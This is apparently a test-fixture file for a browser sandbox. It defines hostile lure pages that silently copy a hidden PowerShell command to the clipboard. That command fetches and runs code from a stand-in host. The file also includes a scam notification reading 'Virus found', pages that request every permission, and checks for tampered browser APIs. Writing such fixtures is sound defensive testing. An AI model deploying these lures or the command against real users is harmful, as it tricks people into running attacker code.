/** Pages that want a person to do something: paste a command, grant a permission, print. */
import { html, type Routes } from '../route.ts';

export const LURE_COMMAND = 'powershell -w hidden -c "iex (irm https://lure.example/a)"';

const TEXT = JSON.stringify(LURE_COMMAND);

export const LURES: Routes = {
  '/hostile/lure/timer': html(
    `<title>Verify</title><p>Press Win+R, then Ctrl+V<script>
      setTimeout(() => navigator.clipboard.writeText(${TEXT}).catch(() => {}), 20);
    </script>`,
  ),
  '/hostile/lure/copy-event': html(
    `<title>Verify</title><p>Press Ctrl+C<script>
      document.addEventListener("copy", (event) => {
        event.clipboardData.setData("text/plain", ${TEXT});
        event.preventDefault();
      });
    </script>`,
  ),
  '/hostile/lure/copy-command': html(
    `<title>Verify</title><p>Wait<script>
      const field = document.createElement("textarea");
      field.value = ${TEXT};
      document.documentElement.append(field);
      field.select();
      document.execCommand("copy");
      field.remove();
    </script>`,
  ),
  '/hostile/lure/clipboard-item': html(
    `<title>Verify</title><p>Wait<script>
      const blob = new Blob([${TEXT}], { type: "text/plain" });
      navigator.clipboard.write([new ClipboardItem({ "text/plain": blob })]).catch(() => {});
    </script>`,
  ),
  '/hostile/lure/remote-frame': ({ url, response }) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    const frame = `${url.protocol}//localhost:${url.port}/hostile/lure/timer`;
    response.end(
      `<!DOCTYPE html><title>Outer</title><iframe allow="clipboard-write" src="${frame}"></iframe>`,
    );
  },
  '/hostile/lure/console-flood': html(
    `<title>Verify</title><p>Wait<script>
      for (let i = 0; i < 6e3; i += 1) console.log("line", i);
      navigator.clipboard.writeText(${TEXT}).catch(() => {});
    </script>`,
  ),
  '/hostile/lure/ask-all': html(
    `<title>Asks</title><p>Allow<script>
      navigator.geolocation.getCurrentPosition(() => {}, () => {});
      Notification.requestPermission();
      navigator.mediaDevices.getUserMedia({ video: true, audio: true }).catch(() => {});
      navigator.clipboard.readText().catch(() => {});
      navigator.requestMIDIAccess({ sysex: true }).catch(() => {});
      new Notification("Virus found", { body: "Call us" });
      print();
      document.title = Notification.permission;
    </script>`,
  ),
  '/hostile/lure/without-end': html(
    `<title>Clipboard</title><p>Text<script>
      for (let i = 0; i < 1e3; i += 1) navigator.clipboard.writeText(i + "x".repeat(2e4)).catch(() => {});
    </script>`,
  ),
  '/hostile/lure/looks-around': html(
    `<title>Looks</title><p>Text<script>
      const suspicious = [];
      const check = (name, isFine) => { if (!isFine) suspicious.push(name); };
      const native = (name, value) =>
        check(name, Function.prototype.toString.call(value) === "function " + value.name + "() { [native code] }");
      native("writeText", Clipboard.prototype.writeText);
      native("execCommand", document.execCommand);
      native("Notification", Notification);
      native("print", print);
      native("getter", Object.getOwnPropertyDescriptor(ClipboardEvent.prototype, "clipboardData").get);
      const frame = document.createElement("iframe");
      document.documentElement.append(frame);
      const known = new Set(Object.getOwnPropertyNames(frame.contentWindow));
      check("names", Object.getOwnPropertyNames(window).every((name) =>
        known.has(name) || name === "0" || ["suspicious", "check", "native", "frame", "known"].includes(name)));
      check("prototype", !("prototype" in Clipboard.prototype.writeText));
      check("constructor", Notification.prototype.constructor === Notification);
      check("instance", Object.getPrototypeOf(new Notification("x")) === Notification.prototype);
      try { Clipboard.prototype.writeText.call({}, "x").catch(() => {}); } catch { check("throws", false); }
      try { Notification("x"); check("callable", false); } catch (error) {
        check("stack", !error.stack.includes("Object.construct"));
      }
      document.title = suspicious.length === 0 ? "clean" : suspicious.join(" ");
    </script>`,
  ),
};
